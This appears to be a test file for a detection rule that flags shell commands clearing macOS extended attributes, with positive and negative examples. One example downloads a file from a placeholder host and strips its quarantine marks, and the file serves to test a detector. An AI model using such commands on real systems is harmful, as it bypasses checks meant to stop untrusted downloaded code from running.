# ruleid: sh-clears-marks
xattr -c "$F"
# ruleid: sh-clears-marks
curl -o x https://get.invalid/x && xattr -cr x
# ok: sh-clears-marks
xattr -l file
# ok: sh-clears-marks
xattr -p com.apple.x file
